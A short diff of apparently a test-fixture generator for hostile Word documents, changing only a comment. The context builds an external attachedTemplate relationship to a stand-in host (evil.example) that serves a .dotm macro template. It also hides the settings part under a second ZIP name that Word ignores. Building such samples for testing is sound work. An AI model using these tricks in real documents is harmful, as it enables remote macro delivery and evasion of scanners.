@@ -132,8 +132,8 @@ async function linkedDocuments(): Promise<HostileDocx[]> {
     ],
   )
   const hidden = relationships(['attachedTemplate', 'https://evil.example/x.dotm', ' TargetMode="External"'])
-  // The second name of the part as an Info-ZIP Unicode path (APPNOTE 4.6.9), which Word does not read. The field
-  // contains a version, the checksum of the first name, and the second name.
+  // Gives the part `settings` a second name, as an Info-ZIP Unicode path (APPNOTE 4.6.9). Word reads the first name
+  // only. The field contains a version, the checksum of the first name, and the second name.
   const secondName = new Map([[0x7075, joined(fromHex('012e4fc970'), bytesOf('word/notes.xml'))]])
   return [
     ...(await Promise.all(rows)),
